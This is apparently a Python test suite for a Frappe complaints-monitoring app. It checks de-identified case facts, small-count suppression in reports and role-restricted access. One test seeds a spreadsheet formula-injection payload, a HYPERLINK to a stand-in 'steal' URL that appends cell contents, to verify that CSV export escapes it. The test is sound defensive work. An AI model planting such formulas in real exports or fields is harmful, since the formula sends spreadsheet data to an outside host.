"""Monitoring facts and reports on a real site (issue 6): every case leaves a de-identified fact that outlives it,
the reports count facts with small numbers hidden, and only the monitoring role sees figures, never a case
(X-2, X-3, DER-25, SOM-17)."""

import csv
import io
import json

import frappe
from frappe.desk.query_report import export_query
from frappe.desk.query_report import run as run_report
from frappe.utils import getdate

from fairness_app.reports.facts import MET, MISSED, listed, unlisted
from fairness_app.reports.periods import financial_year_of, period_of
from fairness_app.reports.suppression import SECONDARY_MARK
from fairness_app.services import equality
from fairness_app.services.monitoring import FACT, case_key, refresh_fact
from fairness_app.tests.fixtures import EveryPersonaTestCase, make_party, new_complaint
from fairness_app.tests.site_client import SiteClient

COMMITTEE = "Fairness Committee Table"
TIMELINESS = "Fairness Timeliness"
BEST_VALUE = "Fairness Best Value"
REVIEW_GROUP = "Fairness Review Group"
DEPARTMENTAL_RETURN = "Fairness Departmental Return"
INCIDENTS = "Fairness Incidents Summary"
REPORTS = (COMMITTEE, TIMELINESS, BEST_VALUE, REVIEW_GROUP, DEPARTMENTAL_RETURN, INCIDENTS)
# Facts of a year no other test records cases in, so each figure is known.
QUIET_YEAR = "2011-12"
OUTSTANDING_RECEIVED, OUTSTANDING_YEAR = "2010-11-01", "2010-11"  # still open when the quiet year began
FORMULA_YEAR = "2009-10"
FORMULA = '=HYPERLINK("https://example.org/steal?"&A1, "Acknowledge")'
WHITE = "White: British"
AFRICAN = "Black or Black British: African"


def fact_of(case):
	return frappe.get_doc(FACT, case_key(case.doctype, case.name))


def published(fact) -> str:
	"""Everything a fact holds, as text."""
	return json.dumps(fact.as_dict(), default=str)


def seed_fact(ethnic_group, sex, disabled, outcome, grounds=(), clocks=(), directorate=None, received_on="2011-06-01"):
	"""A staff complaint's fact as a closed case would leave it, for a year no case of these tests falls in."""
	return insert_fact(
		case_kind="Complaint",
		received_on=received_on,
		directorate=directorate,
		complaint_type="Staff",
		stage_category="closed",
		ethnic_group=ethnic_group,
		sex=sex,
		disabled=disabled,
		outcome=outcome,
		grounds=listed(grounds),
		clocks=[{"rule_key": key, "label": label, "result": result} for key, label, result in clocks],
	)


def seed_incident_fact(quarter, workplace, abuse_types, hate_related=0, repeat_incidents=0):
	"""An incident's fact for the quiet year: quarter 1 is April to June 2011."""
	return insert_fact(
		case_kind="Incident",
		received_on=f"2011-{3 * quarter + 1:02}-10" if quarter < 4 else "2012-02-10",
		directorate="RES",
		workplace=workplace,
		abuse_types=listed(abuse_types),
		hate_related=hate_related,
		repeat_incidents=repeat_incidents,
	)


def insert_fact(**fields):
	period = period_of(getdate(fields["received_on"]))
	return frappe.get_doc(
		{
			"doctype": FACT,
			"case_key": frappe.generate_hash(length=32),
			"financial_year": period.financial_year,
			"quarter": period.quarter,
			"half": period.half,
			**fields,
		}
	).insert(ignore_permissions=True)


def column_named(result, label):
	(fieldname,) = [column["fieldname"] for column in result["columns"] if column["label"] == label]
	return fieldname


def report_rows(report, **filters):
	result = run_report(report, filters=filters)
	return result["columns"], {row["racial_group" if report == COMMITTEE else "deadline"]: row for row in result["result"]}


class TestMonitoringFacts(EveryPersonaTestCase):
	def test_a_recorded_case_leaves_a_fact_with_no_name_reference_or_free_text(self):
		# req, SOM-12
		fact = fact_of(self.case)
		self.assertEqual((fact.case_kind, fact.route, fact.stage), ("Complaint", self.case.procedure, self.case.workflow_state))
		self.assertEqual(fact.financial_year, financial_year_of(self.case.received_on))
		text = published(fact)
		for secret in (self.case.name, self.case.reference, "Street cleaning", "Complainant", self.users.case_officer):
			self.assertNotIn(secret, text)
		self.assertEqual({str(fact.creation)[11:], str(fact.modified)[11:]}, {"00:00:00"})  # the day, not the moment
		self.assertEqual(frappe.db.count(FACT, {"case_key": case_key(self.case.doctype, self.case.name)}), 1)

	def test_an_incident_leaves_its_type_and_channel(self):
		# req: CUM-6, KEN-11
		fact = fact_of(self.scenario.incident)
		self.assertEqual((fact.case_kind, fact.channel), ("Incident", "Face to face"))
		self.assertEqual(fact.abuse_types, "Verbal abuse")
		self.assertNotIn(self.scenario.incident.name, published(fact))

	def test_equality_answers_reach_the_fact_as_bands_and_declining_takes_them_away(self):
		# req: X-2, DER-24, DER-25
		frappe.set_user(self.users.case_officer)
		equality.record_equality_details(self.case.doctype, self.case.name, {"ethnic_group": "Chinese", "sex": "Male"})
		self.assertEqual((fact_of(self.case).ethnic_group, fact_of(self.case).sex), ("Chinese", "Male"))
		equality.record_equality_details(self.case.doctype, self.case.name, {}, declined=True)
		self.assertEqual((fact_of(self.case).ethnic_group, fact_of(self.case).sex), (None, None))

	def test_a_change_to_the_case_updates_its_one_fact(self):
		# req: DER-25
		frappe.set_user(self.users.case_officer)
		case = frappe.get_doc(self.case.doctype, self.case.name)
		case.append("allegations", {"behaviour": "Harassment", "ground": "Race", "harassment_type": "Sexual"})
		case.save()
		fact = fact_of(case)
		self.assertIn("Race", unlisted(fact.grounds))
		self.assertIn("Sexual", unlisted(fact.harassment_types))
		self.assertEqual(frappe.db.count(FACT, {"case_key": case_key(case.doctype, case.name)}), 1)

	def test_a_fact_outlives_its_case(self):
		# req: X-3, SOM-13, DER-23
		frappe.set_user(self.users.case_officer)
		party = make_party("Short-lived Complainant")
		case = new_complaint([(party, "Complainant")], outcome="Withdrawn").insert()
		before = fact_of(case).as_dict()
		frappe.set_user("Administrator")
		frappe.delete_doc(case.doctype, case.name, force=True, delete_permanently=True)
		after = frappe.get_doc(FACT, before.name).as_dict()
		self.assertEqual((after.outcome, after.received_on, after.modified), (before.outcome, before.received_on, before.modified))
		self.assertIsNone(refresh_fact(case.doctype, case.name))  # a late job for a deleted case leaves it be

	def test_nobody_reads_facts_one_by_one_not_even_the_monitoring_officer(self):
		# req: X-2
		name = fact_of(self.case).name
		for persona in ("monitoring_officer", "case_officer", "line_manager", "administrator"):
			client = SiteClient(self.users[persona])
			with self.subTest(persona=persona):
				self.assertEqual(client.resource(FACT).status_code, 403)
				self.assertEqual(client.resource(FACT, name).status_code, 403)
				report_view = client.get("/api/method/frappe.desk.reportview.get", doctype=FACT, fields=["name"])
				self.assertEqual(report_view.status_code, 403)


class TestMonitoringReports(EveryPersonaTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		# The years seeded here, the outstanding case's earlier year included, start empty on every run.
		frappe.db.delete(FACT, {"financial_year": ("in", (OUTSTANDING_YEAR, QUIET_YEAR, FORMULA_YEAR))})
		if not frappe.db.exists("Fairness Directorate", "RES"):
			frappe.get_doc({"doctype": "Fairness Directorate", "code": "RES", "directorate_name": "Resources"}).insert()
		for _ in range(7):
			seed_fact(AFRICAN, "Female", "No", "Partly upheld", ["Race"], directorate="RES")
		for _ in range(6):
			seed_fact(WHITE, "Female", "No", "Upheld", ["Sex"], [("ack", "Acknowledge", MET)], "RES")
		for _ in range(5):
			seed_fact(WHITE, "Male", "No", "Not upheld", ["Age"], [("ack", "Acknowledge", MET)], "RES")
		seed_fact("Chinese", "Male", "Yes", "Withdrawn", ["Race"], [("ack", "Acknowledge", MISSED)], "RES")
		# Received the year before and still open when this one began: outstanding from an earlier period.
		seed_fact("Chinese", "Female", "No", None, ["Race"], received_on=OUTSTANDING_RECEIVED)
		for _ in range(6):
			seed_incident_fact(1, "Library", ["Verbal abuse"])
		seed_incident_fact(2, "Library", ["Verbal abuse", "Threats"], hate_related=1, repeat_incidents=2)
		# A deadline named like a spreadsheet formula, in a year of its own.
		insert_fact(
			case_kind="Complaint",
			received_on="2009-06-01",
			closed_on="2009-07-01",
			clocks=[{"rule_key": "formula", "label": FORMULA, "result": MET}],
		)
		frappe.db.commit()

	def assertTrueOrHidden(self, shown, count):
		"""A figure is true, or hidden: as "<5" when it is small, and as [c] when it would give a small one away."""
		self.assertIn(shown, ("<5",) if 0 < count < 5 else (count, SECONDARY_MARK))

	def test_the_committee_table_counts_complainants_by_racial_group_and_hides_small_numbers(self):
		# req: DER-25, X-2
		frappe.set_user(self.users.monitoring_officer)
		columns, rows = report_rows(COMMITTEE, financial_year=QUIET_YEAR)
		labels = [column["label"] for column in columns]
		self.assertEqual(labels[:3], ["Racial group of complainant", "Complainants", "Harassment or bullying: Racial"])
		self.assertEqual(list(rows), [AFRICAN, "Chinese", WHITE, "Total"])
		true_counts = {
			WHITE: {"complainants": 11, "type_sexual": 6, "type_age": 5, "gender_f": 6, "gender_m": 5, "outcome_upheld": 6},
			AFRICAN: {"complainants": 7, "type_racial": 7, "gender_f": 7, "outcome_partly_upheld": 7},
			"Chinese": {"complainants": 1, "type_racial": 1, "gender_m": 1, "disability_y": 1, "outcome_withdrawn": 1},
			"Total": {"complainants": 19, "type_racial": 8, "gender_m": 6, "disability_y": 1, "outcome_withdrawn": 1},
		}
		for line, counts in true_counts.items():
			for field, count in counts.items():
				with self.subTest(line=line, field=field):
					# A figure is true, or hidden: as "<5" when it is small.
					self.assertIn(rows[line][field], ("<5",) if count < 5 else (count, SECONDARY_MARK))
		self.assertEqual((rows[WHITE]["complainants"], rows[WHITE]["type_sexual"]), (11, 6))

	def test_outstanding_complaints_from_earlier_years_are_a_table_of_their_own(self):
		# req: DER-25
		frappe.set_user(self.users.monitoring_officer)
		_, rows = report_rows(COMMITTEE, financial_year=QUIET_YEAR, cases="Outstanding from earlier years")
		self.assertEqual(set(rows), {"Chinese", "Total"})
		self.assertEqual(rows["Chinese"]["outcome_not_yet_decided"], "<5")

	def test_timeliness_counts_each_deadline_met_and_missed(self):
		# req: SOM-14, DER-9, X-2
		frappe.set_user(self.users.monitoring_officer)
		_, rows = report_rows(TIMELINESS, financial_year=QUIET_YEAR)
		self.assertEqual(rows["Acknowledge"]["directorate"], "RES")
		self.assertEqual(rows["Acknowledge"]["missed"], "<5")
		self.assertIsNone(rows["Acknowledge"]["met_share"])  # it would give the hidden count away

	def test_best_value_counts_discrimination_recorded_and_followed_up_by_ground(self):
		# req: SOM-17, X-2
		frappe.set_user(self.users.monitoring_officer)
		result = run_report(BEST_VALUE, filters={"financial_year": QUIET_YEAR, "population": 560000})
		rows = {row["ground"]: row for row in result["result"]}
		self.assertEqual(list(rows), ["Race", "Gender", "Disability", "Sexual orientation", "All four grounds"])
		# Race: 7 partly upheld and 1 withdrawn; sex: 6 upheld; age is not one of the four grounds.
		true_counts = {"Race": (8, 7, 1), "Gender": (6, 6, 0), "Disability": (0, 0, 0), "All four grounds": (14, 13, 1)}
		for ground, counts in true_counts.items():
			for field, count in zip(("recorded", "followed_up", "not_followed_up"), counts, strict=True):
				with self.subTest(ground=ground, field=field):
					self.assertTrueOrHidden(rows[ground][field], count)
		self.assertEqual(rows["Race"]["not_followed_up"], "<5")
		self.assertEqual(rows["Gender"]["recorded"], 6)
		self.assertEqual(rows["Gender"]["per_100000"], 1.07)
		self.assertIsNone(rows["Race"]["followed_up_share"])  # it would give the hidden count away

	def test_the_review_group_sees_numbers_and_types_for_the_half_year_only(self):
		# req: SOM-17, X-2
		frappe.set_user(self.users.monitoring_officer)
		counts = self.review_group_counts("April to September")
		self.assertEqual(counts["Outcome", "Withdrawn"], "<5")
		self.assertEqual(counts["Outcome", "Not completed"], 0)
		true_counts = {
			("Type of complaint", "Staff"): 19,
			("Directorate", "RES"): 19,
			("Ground", "Race"): 8,
			("Ground", "Age"): 5,
			("Ground", "All grounds counted"): 19,
			("Stage", "Closed"): 19,
		}
		for key, count in true_counts.items():
			with self.subTest(key=key):
				self.assertTrueOrHidden(counts[key], count)
		later = self.review_group_counts("October to March")  # the earlier year's complaint is not counted again
		self.assertEqual(later["Type of complaint", "All complaints"], 0)

	def review_group_counts(self, half):
		result = run_report(REVIEW_GROUP, filters={"financial_year": QUIET_YEAR, "half": half})
		return {(row["heading"], row["label"]): row["complaints"] for row in result["result"]}

	def test_each_department_returns_its_line_for_the_quarter(self):
		# req: SOM-20, X-2
		frappe.set_user(self.users.monitoring_officer)
		result = run_report(DEPARTMENTAL_RETURN, filters={"financial_year": QUIET_YEAR, "quarter": "April to June"})
		rows = {row["line"]: row for row in result["result"]}
		self.assertEqual(list(rows), ["RES", "All directorates"])
		self.assertTrueOrHidden(rows["RES"]["cases"], 19)
		self.assertEqual(rows["RES"][column_named(result, "Stage: Open")], 0)
		withdrawn = column_named(result, "Outcome: Withdrawn")
		self.assertEqual((rows["RES"][withdrawn], rows["All directorates"][withdrawn]), ("<5", "<5"))

	def test_senior_managers_see_incidents_by_quarter_and_type_never_who(self):
		# req: CUM-6, KEN-11, CUM-11, X-2
		frappe.set_user(self.users.monitoring_officer)
		result = run_report(INCIDENTS, filters={"financial_year": QUIET_YEAR})
		rows = {row["line"]: row for row in result["result"]}
		self.assertEqual(list(rows), [f"Q{quarter} {QUIET_YEAR}" for quarter in (1, 2, 3, 4)] + ["All quarters"])
		self.assertTrueOrHidden(rows[f"Q1 {QUIET_YEAR}"]["cases"], 6)
		self.assertEqual(rows[f"Q3 {QUIET_YEAR}"]["cases"], 0)
		self.assertEqual(rows[f"Q2 {QUIET_YEAR}"][column_named(result, "Hate-related: Yes")], "<5")
		self.assertEqual(rows[f"Q2 {QUIET_YEAR}"][column_named(result, "Incidents by the same person: 2 or 3 by the same person")], "<5")

	def test_exports_keep_a_label_that_looks_like_a_formula_as_text(self):
		# req: X-2
		frappe.set_user(self.users.monitoring_officer)
		frappe.local.form_dict = frappe._dict(
			report_name=TIMELINESS,
			file_format_type="CSV",
			filters=json.dumps({"financial_year": FORMULA_YEAR}),
			visible_idx="[]",
		)
		export_query()
		cells = [cell for line in csv.reader(io.StringIO(frappe.response["filecontent"].decode())) for cell in line]
		self.assertIn("'" + FORMULA, cells)
		self.assertFalse([cell for cell in cells if cell.startswith(("=", "+", "-", "@"))])

	def test_a_financial_year_written_wrongly_gets_a_plain_message(self):
		frappe.set_user(self.users.monitoring_officer)
		with self.assertRaisesRegex(frappe.ValidationError, "like 2026-27"):
			run_report(COMMITTEE, filters={"financial_year": "2011/12"})
		for population in ("-5", "lots"):
			with self.assertRaisesRegex(frappe.ValidationError, "whole number of people"):
				run_report(BEST_VALUE, filters={"financial_year": QUIET_YEAR, "population": population})
		with self.assertRaisesRegex(frappe.ValidationError, "Choose the quarter"):
			run_report(DEPARTMENTAL_RETURN, filters={"financial_year": QUIET_YEAR, "quarter": "Spring"})

	def test_only_the_monitoring_role_runs_the_reports(self):
		# req: X-2
		for persona in ("case_officer", "line_manager", "investigator", "administrator", "complainant"):
			for report in REPORTS:
				with self.subTest(persona=persona, report=report):
					frappe.set_user(self.users[persona])
					self.assertRaises(frappe.PermissionError, run_report, report, filters={"financial_year": QUIET_YEAR})

	def test_no_figure_leads_to_a_case(self):
		# req: X-2
		frappe.set_user(self.users.monitoring_officer)
		for report in REPORTS:
			result = run_report(report, filters={"financial_year": QUIET_YEAR})
			self.assertFalse([column for column in result["columns"] if column["fieldtype"] in ("Link", "Dynamic Link")])
			self.assertNotIn("name", {key for row in result["result"] for key in row})

	def test_counts_below_two_cannot_be_the_threshold(self):
		# req: X-2
		settings = frappe.get_doc("Fairness Settings")
		settings.suppression_threshold = 1
		self.assertRaisesRegex(frappe.ValidationError, "point to a person", settings.save)
